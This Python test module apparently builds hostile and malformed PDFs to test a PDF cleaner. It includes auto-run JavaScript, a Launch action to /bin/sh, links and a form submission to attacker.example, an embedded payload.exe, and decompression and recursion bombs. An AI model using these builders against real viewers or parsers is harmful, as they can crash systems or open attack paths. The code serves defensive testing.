"""PDF documents that act, hide, overwhelm or are broken, made by code."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.builders.odd_pictures import TAIL

TEXT = "Sample text of a page"
_HIDDEN = TAIL.decode()


def document(
    change: Callable[[Pdf], None] | None = None,
    *,
    pages: int = 1,
    object_stream_mode: pikepdf.ObjectStreamMode = pikepdf.ObjectStreamMode.preserve,
    encryption: pikepdf.Encryption | None = None,
) -> bytes:
    """A document with text on each page, changed before it is written."""
    pdf = Pdf.new()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    font = pdf.make_indirect(font)
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(300, 200))
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        text = f"BT /F1 14 Tf 20 100 Td ({TEXT} {number}) Tj ET"
        page.Contents = Stream(pdf, text.encode())
    if change is not None:
        change(pdf)
    written = io.BytesIO()
    pdf.save(written, object_stream_mode=object_stream_mode, encryption=encryption)
    return written.getvalue()


def script(pdf: Pdf) -> Dictionary:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{_HIDDEN}')")))


def open_action(pdf: Pdf) -> None:
    pdf.Root.OpenAction = script(pdf)


def open_launch(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("/bin/sh"), Win=Dictionary(F=String(_HIDDEN)))


def page_action(pdf: Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=script(pdf), C=script(pdf))


def document_actions(pdf: Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=script(pdf), DP=script(pdf))


def script_names(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("start"), script(pdf)])))


def _annotate(pdf: Pdf, annotation: Dictionary) -> None:
    annotation.Type = Name.Annot
    annotation.Rect = Array([10, 10, 100, 60])
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


def launch_link(pdf: Pdf) -> None:
    _annotate(pdf, Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String(_HIDDEN))))


def web_link(pdf: Pdf) -> None:
    action = Dictionary(S=Name.URI, URI=String("https://attacker.example/" + "a" * 80))
    _annotate(pdf, Dictionary(Subtype=Name.Link, A=action))


def script_link(pdf: Pdf) -> None:
    _annotate(pdf, Dictionary(Subtype=Name.Link, A=script(pdf)))


def embedded(pdf: Pdf) -> Dictionary:
    stream = Stream(pdf, TAIL)
    stream.Type = Name.EmbeddedFile
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("payload.exe"), EF=Dictionary(F=pdf.make_indirect(stream)))
    )


def embedded_file(pdf: Pdf) -> None:
    names = Array([String("payload.exe"), embedded(pdf)])
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=names))


def associated_file(pdf: Pdf) -> None:
    file = embedded(pdf)
    pdf.Root.AF = Array([file])
    pdf.pages[0].obj.AF = Array([file])


def attachment_mark(pdf: Pdf) -> None:
    _annotate(pdf, Dictionary(Subtype=Name.FileAttachment, FS=embedded(pdf)))


def rich_media(pdf: Pdf) -> None:
    assets = Dictionary(Assets=Dictionary(Names=Array([String("movie.swf"), embedded(pdf)])))
    _annotate(pdf, Dictionary(Subtype=Name.RichMedia, RichMediaContent=assets))


def dynamic_form(pdf: Pdf) -> None:
    form = Stream(pdf, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>" + TAIL + b"</xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_indirect(form))
    pdf.Root.NeedsRendering = True


def submitting_form(pdf: Pdf) -> None:
    action = Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/" + "b" * 80))
    _annotate(pdf, Dictionary(Subtype=Name.Widget, FT=Name.Btn, T=String("send"), A=action))
    pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].obj.Annots)


def filled_form(pdf: Pdf) -> None:
    """A field somebody typed into; its words must stay to be read."""
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    _annotate(
        pdf,
        Dictionary(
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            V=String("typed words"),
            DA=String("/F1 10 Tf 0 g"),
        ),
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=pdf.pages[0].obj.Annots,
        DR=Dictionary(Font=Dictionary(F1=font)),
        DA=String("/F1 10 Tf 0 g"),
        NeedAppearances=True,
    )


def metadata(pdf: Pdf) -> None:
    pdf.docinfo["/Author"] = _HIDDEN
    pdf.Root.Metadata = Stream(pdf, b"<x:xmpmeta>" + TAIL + b"</x:xmpmeta>")
    pdf.pages[0].obj.Metadata = Stream(pdf, TAIL)
    pdf.pages[0].obj.PieceInfo = Dictionary(App=Dictionary(Private=String(_HIDDEN)))


def picture_metadata(pdf: Pdf) -> None:
    picture = Stream(pdf, b"\0\0\0")
    for key, value in (
        ("/Type", Name.XObject),
        ("/Subtype", Name.Image),
        ("/Width", 1),
        ("/Height", 1),
        ("/BitsPerComponent", 8),
        ("/ColorSpace", Name.DeviceRGB),
    ):
        picture[key] = value
    picture["/Metadata"] = pdf.make_indirect(Stream(pdf, TAIL))
    pdf.pages[0].obj.Resources.XObject = Dictionary(P1=pdf.make_indirect(picture))


def outline_script(pdf: Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("Read me"), A=script(pdf)))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))


def inherited_page_box(pdf: Pdf) -> None:
    """Everything a page needs stands in the branch above it."""
    page = pdf.pages[0].obj
    pdf.Root.Pages.MediaBox = page.MediaBox
    pdf.Root.Pages.Resources = page.Resources
    del page["/MediaBox"]
    del page["/Resources"]


def drawing_itself(pdf: Pdf) -> None:
    """A form that draws itself for ever."""
    form = Stream(pdf, b"/X1 Do")
    form["/Type"], form["/Subtype"] = Name.XObject, Name.Form
    form["/BBox"] = Array([0, 0, 10, 10])
    form = pdf.make_indirect(form)
    form["/Resources"] = Dictionary(XObject=Dictionary(X1=form))
    pdf.pages[0].obj.Resources.XObject = Dictionary(X1=form)
    pdf.pages[0].obj.Contents = Stream(pdf, b"/X1 Do")


def doubling_forms(pdf: Pdf) -> None:
    """Thirty forms, each drawing the next one twice: a thousand million drawings."""
    form = Stream(pdf, b"0 0 1 1 re f")
    for _level in range(30):
        form["/Type"], form["/Subtype"] = Name.XObject, Name.Form
        form["/BBox"] = Array([0, 0, 10, 10])
        inner = pdf.make_indirect(form)
        form = Stream(pdf, b"/X1 Do /X1 Do")
        form["/Resources"] = Dictionary(XObject=Dictionary(X1=inner))
    form["/Type"], form["/Subtype"], form["/BBox"] = Name.XObject, Name.Form, Array([0, 0, 10, 10])
    pdf.pages[0].obj.Resources.XObject = Dictionary(X1=pdf.make_indirect(form))
    pdf.pages[0].obj.Contents = Stream(pdf, b"/X1 Do")


def enormous_page(pdf: Pdf) -> None:
    pdf.pages[0].obj.MediaBox = Array([0, 0, 10_000_000, 1])


def no_page_size(pdf: Pdf) -> None:
    pdf.pages[0].obj.MediaBox = Array([0, 0, 0, 0])


def protected(*, user: str, owner: str) -> bytes:
    return document(encryption=pikepdf.Encryption(user=user, owner=owner))


def without_pages() -> bytes:
    written = io.BytesIO()
    Pdf.new().save(written)
    return written.getvalue()


def deeply_nested() -> bytes:
    """An object that is a hundred thousand arrays in each other."""
    return raw(b"[" * 100_000 + b"]" * 100_000)


def raw(fourth_object: bytes) -> bytes:
    """A document written by hand, without a table of its objects."""
    return (
        b"%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R/Extra 4 0 R>> endobj\n"
        b"2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"
        b"3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R>> endobj\n"
        b"4 0 obj " + fourth_object + b" endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
    )


def many_pages(count: int) -> bytes:
    """Empty pages by the thousand, quickly."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]>>"
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count)]
    return _with_table([*objects, *[page] * count])


def _with_table(objects: list[bytes]) -> bytes:
    """A document of these objects, numbered from 1, the first being its root."""
    content = bytearray(b"%PDF-1.7\n")
    table = bytearray(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for number, body in enumerate(objects, start=1):
        table += b"%010d 00000 n \n" % len(content)
        content += b"%d 0 obj %b endobj\n" % (number, body)
    trailer = b"trailer <</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        len(content),
    )
    return bytes(content + table + trailer)


def looping_page_tree() -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n"
        b"2 0 obj <</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
    )


def _packed_zeros(megabytes: int) -> bytes:
    packer = zlib.compressobj(1)
    return b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(megabytes)) + packer.flush()


def content_bomb() -> bytes:
    """The drawing orders of a page that unpack, twice, to 500 megabytes."""
    packed = zlib.compress(_packed_zeros(500))
    head = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>> stream\n" % len(packed)
    return raw(head + packed + b"\nendstream")


def object_stream_bomb() -> bytes:
    """Objects packed into a stream that unpacks to 2 gigabytes."""
    packed = zlib.compress(_packed_zeros(2000))
    head = b"<</Type/ObjStm/N 1/First 10/Length %d/Filter[/FlateDecode/FlateDecode]>> stream\n" % len(packed)
    return raw(head + packed + b"\nendstream").replace(b"/Extra 4 0 R", b"")


def damaged_table() -> bytes:
    """A sound document whose table of objects points to the wrong places."""
    sound = document(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    table = sound.index(b"xref\n")
    return sound[:table] + sound[table:].replace(b"0000000", b"0000099")


# Whatever acts by itself, leads elsewhere or carries other files, each a change of a sound document.
ACTIVE = (
    open_action,
    open_launch,
    page_action,
    document_actions,
    script_names,
    launch_link,
    web_link,
    script_link,
    embedded_file,
    associated_file,
    attachment_mark,
    rich_media,
    submitting_form,
    metadata,
    outline_script,
)
